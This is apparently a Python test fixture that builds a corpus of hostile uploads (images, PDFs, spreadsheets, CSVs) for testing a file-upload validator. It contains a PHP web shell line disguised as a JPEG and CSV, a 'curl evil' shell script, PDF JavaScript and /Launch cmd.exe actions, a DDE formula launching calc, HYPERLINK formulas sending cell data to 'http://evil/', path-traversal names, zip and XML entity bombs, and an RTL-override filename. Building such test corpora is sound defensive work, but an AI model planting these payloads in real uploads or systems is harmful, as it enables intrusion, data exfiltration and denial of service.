"""Files nobody should be able to leave with us, each made here by a few lines.

``MARK`` stands for what the attacker wants kept: a script, a position, a second file.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import xlsxwriter
from PIL import Image, PngImagePlugin

from liaison.words.enums import FileKind

MARK = b"<script>steal()</script>"
GPS_TAG = 0x8825


@dataclass(frozen=True)
class Hostile:
    title: str
    name: str
    kind: FileKind
    data: bytes


def jpeg(size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(out, "JPEG", **options)
    return out.getvalue()


def png(size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert(mode).save(out, "PNG", **options)
    return out.getvalue()


def located() -> bytes:
    """A photo that tells where the resident lives."""
    exif = Image.Exif()
    exif[0x010E] = MARK.decode()
    exif.get_ifd(GPS_TAG).update({1: "N", 2: (37.0, 41.0, 30.0), 3: "E", 4: (112.0, 44.0, 10.0)})
    return jpeg(exif=exif.tobytes())


def workbook(change: Callable[[dict[str, bytes]], None] | None = None, *, formula: str = "") -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("名册")
        sheet.write_row(0, 0, ["姓名", "备注"])
        if formula:
            sheet.write_formula(1, 1, formula)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    if change is not None:
        change(parts)
    return zipped(parts)


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def pdf(body: bytes = b"", tail: bytes = b"") -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + body + b" >>"
    pages = b"<< /Type /Pages /Kids [] /Count 0 >>"
    head = b"%PDF-1.7\n"
    first = head + b"1 0 obj\n" + catalog + b"\nendobj\n"
    second = first + b"2 0 obj\n" + pages + b"\nendobj\n"
    table = b"xref\n0 3\n0000000000 65535 f \n%010d 00000 n \n%010d 00000 n \n" % (len(head), len(first))
    return (
        second + table + b"trailer << /Size 3 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(second) + tail
    )


def packed_pdf(inner: bytes, kind: bytes = b"/Type /ObjStm") -> bytes:
    """Objects hidden in a compressed stream."""
    stream = zlib.compress(inner)
    part = b"3 0 obj\n<< %s /Filter /FlateDecode /Length %d >>\nstream\n" % (kind, len(stream))
    return pdf().replace(b"xref\n0 3", part + stream + b"\nendstream\nendobj\nxref\n0 3")


def bomb(megabytes: int = 200) -> bytes:
    return workbook(
        lambda parts: parts.update({"xl/worksheets/sheet1.xml": b"\x00" * megabytes * 1024 * 1024})
    )


def flooded_png() -> bytes:
    """24 kB that want 196 megapixels: the header says 14000 by 14000."""
    header = struct.pack(">IIBBBBB", 14000, 14000, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (14001 * 1000), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def text_png() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", MARK.decode())
    return png(pnginfo=info)


def swollen_png() -> bytes:
    """A text chunk that unpacks to 100 MB."""
    data = b"Comment\x00\x00" + zlib.compress(b"A" * 100 * 1024 * 1024, 9)
    plain = png()
    return plain[:33] + _chunk(b"zTXt", data) + plain[33:]


def lying_jpeg() -> bytes:
    """The frame header claims 65000 by 65000 points."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", 65000, 65000)
    return bytes(data)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script></svg>'
HTML = b"<!DOCTYPE html><html><body>" + MARK + b"</body></html>"
ROSTER = "姓名,电话\n王建国,13800000000\n".encode()


def _pictures() -> Iterator[tuple[str, str, bytes]]:
    yield "drawing with a script", "a.svg", SVG
    yield "drawing named as a photo", "a.jpg", SVG
    yield "drawing after a declaration", "a.png", b'<?xml version="1.0"?>\n' + SVG
    yield "web page named as a photo", "a.jpg", HTML
    yield "web page with a byte order mark", "a.jpg", b"\xef\xbb\xbf" + HTML
    yield "photo with a script after it", "a.jpg", jpeg() + MARK
    yield "photo with a script in its comment", "a.jpg", jpeg(comment=MARK)
    yield "photo with a position", "a.jpg", located()
    yield "photo with a workbook behind it", "a.jpg", jpeg() + workbook()
    yield "photo with a script in a profile", "a.jpg", jpeg(icc_profile=MARK * 8)
    yield "picture with a script in its text", "a.png", text_png()
    yield "picture with a swollen text", "a.png", swollen_png()
    yield "picture of too many points", "a.png", flooded_png()
    yield "photo lying about its size", "a.jpg", lying_jpeg()
    yield "photo cut in half", "a.jpg", jpeg((800, 600))[:2000]
    yield "picture without its end", "a.png", png((800, 600))[:-200]
    yield "photo of three bytes", "a.jpg", b"\xff\xd8\xff"
    yield "animation", "a.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + MARK
    yield "animation named as a photo", "a.jpg", b"GIF89a/*" + MARK
    yield "bitmap", "a.bmp", b"BM" + b"\x00" * 60
    yield "program", "a.jpg", b"MZ" + b"\x90" * 200
    yield "program of another system", "a.png", b"\x7fELF" + b"\x01" * 200
    yield "PHP in a photo's clothes", "a.php.jpg", b"\xff\xd8\xff\xe0<?php system($_GET['c']); ?>"
    yield "PHP with a photo's ending", "a.jpg", b"<?php system($_GET['c']); ?>"
    yield "shell script", "a.png", b"#!/bin/sh\ncurl evil\n"
    yield "PostScript", "a.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n(" + MARK + b") run\n"
    yield "nothing", "a.jpg", b""
    yield "too much", "a.jpg", jpeg() + b"\x00" * (11 * 1024 * 1024)
    yield "photo on the way up the folders", "../../../etc/cron.d/a.jpg", jpeg() + MARK
    yield "photo on the way up in Windows", "..\\..\\boot.jpg", jpeg() + MARK
    yield "photo with a reversed name", "photo\u202egpj.exe", jpeg() + MARK


def _papers() -> Iterator[tuple[str, str, bytes]]:
    yield "paper with a script", "a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    yield "paper with an escaped script", "a.pdf", pdf(b"/OpenAction << /S /J#61vaScript /JS (x) >>")
    yield "paper that starts a program", "a.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")
    yield "paper with an attachment", "a.pdf", pdf(b"/Names << /EmbeddedFiles << >> >>")
    yield "paper with a form that sends", "a.pdf", pdf(b"/AA << /O << /S /SubmitForm >> >>")
    yield "paper with an XFA form", "a.pdf", pdf(b"/AcroForm << /XFA 5 0 R >>")
    yield "paper with a packed script", "a.pdf", packed_pdf(b"9 0 << /S /JavaScript /JS (x) >>")
    yield "paper packed under an escaped name", "a.pdf", packed_pdf(b"<< /S /Launch >>", b"/Type /Obj#53tm")
    yield (
        "paper packed far from its name",
        "a.pdf",
        packed_pdf(b"<< /S /Launch >>", b"/Type /ObjStm" + b" " * 2000),
    )
    yield "paper that unpacks without end", "a.pdf", packed_pdf(b" " * 64 * 1024 * 1024)
    yield "locked paper", "a.pdf", pdf(b"/Encrypt 9 0 R")
    yield "paper followed by a page", "a.pdf", pdf(tail=HTML)
    yield "page followed by a paper", "a.pdf", HTML + pdf()
    yield "paper with a workbook behind it", "a.pdf", pdf() + workbook()
    yield "half a paper", "a.pdf", pdf()[:60]
    yield "paper named as a program", "a.pdf.exe", pdf()
    yield "page named as a paper", "a.pdf", HTML


def _with_macro_kind(parts: dict[str, bytes]) -> None:
    _retype(parts, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")


def _with_template_kind(parts: dict[str, bytes]) -> None:
    _retype(parts, b"application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml")


def _retype(parts: dict[str, bytes], kind: bytes) -> None:
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(plain, kind)


def _lists() -> Iterator[tuple[str, str, bytes]]:
    yield "bomb", "a.xlsx", bomb()
    yield (
        "many small parts",
        "a.xlsx",
        workbook(lambda parts: parts.update({f"xl/x{n}.xml": b"" for n in range(3000)})),
    )
    yield "macros", "a.xlsm", workbook(lambda parts: parts.update({"xl/vbaProject.bin": OLE}))
    yield (
        "macros named as a plain list",
        "a.xlsx",
        workbook(lambda parts: parts.update({"xl/vbaProject.bin": OLE})),
    )
    yield "embedded file", "a.xlsx", workbook(lambda parts: parts.update({"xl/embeddings/o.bin": b"MZ"}))
    yield (
        "link to another file",
        "a.xlsx",
        workbook(lambda parts: parts.update({"xl/externalLinks/externalLink1.xml": b"<x/>"})),
    )
    yield "part outside the archive", "a.xlsx", workbook(lambda parts: parts.update({"../../evil.sh": b"x"}))
    yield "part with an absolute name", "a.xlsx", workbook(lambda parts: parts.update({"/etc/passwd": b"x"}))
    yield (
        "billion laughs",
        "a.xlsx",
        workbook(
            lambda parts: parts.update(
                {"xl/worksheets/sheet1.xml": b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'}
            )
        ),
    )
    yield "formula that fetches", "a.xlsx", workbook(formula='=HYPERLINK("http://evil/"&A1,"x")')
    yield "formula that starts a program", "a.xlsx", workbook(formula="=cmd|'/c calc'!A0")
    yield "archive that is no list", "a.xlsx", zipped({"readme.txt": b"x"})
    yield (
        "text document named as a list",
        "a.xlsx",
        zipped({"[Content_Types].xml": b"<x/>", "word/document.xml": b"x"}),
    )
    yield "script before the archive", "a.xlsx", MARK + workbook()
    yield "script after the archive", "a.xlsx", workbook() + MARK * 100
    yield "archive cut short", "a.xlsx", workbook()[:-40]
    yield "old list with macros", "a.xls", OLE + "_VBA_PROJECT".encode("utf-16-le")
    yield "old container with nothing in it", "a.xls", OLE
    yield "locked list", "a.xls", OLE + "EncryptedPackage".encode("utf-16-le")
    yield "web page named as an old list", "a.xls", HTML
    yield "web page named as text", "a.csv", HTML
    yield "script in a cell", "a.csv", ROSTER + MARK + b",1\n"
    yield "formula in a cell", "a.csv", ROSTER + b'=HYPERLINK("http://evil/"),1\n'
    yield "binary named as text", "a.csv", b"\x00\x01\x02" * 100
    yield "page of a program named as text", "a.csv", b"<?php system($_GET['c']); ?>,1\n"
    yield "workbook of the kind with macros", "a.xlsm", workbook(_with_macro_kind)
    yield "template", "a.xltx", workbook(_with_template_kind)
    yield (
        "table from a data source",
        "a.xlsx",
        workbook(lambda parts: parts.update({"xl/connections.xml": b"<x/>"})),
    )


def corpus() -> list[Hostile]:
    rows = [Hostile(title, name, FileKind.PHOTO, data) for title, name, data in _pictures()]
    rows += [Hostile(title, name, FileKind.SCAN, data) for title, name, data in _papers()]
    rows += [Hostile(title, name, FileKind.SHEET, data) for title, name, data in _lists()]
    # What one kind takes another does not.
    rows.append(Hostile("paper as a photo", "a.pdf", FileKind.PHOTO, pdf()))
    rows.append(Hostile("list as a scan", "a.xlsx", FileKind.SCAN, workbook()))
    rows.append(Hostile("photo as a list", "a.jpg", FileKind.SHEET, jpeg()))
    rows.append(Hostile("text as a report", "a.csv", FileKind.REPORT, ROSTER))
    return rows
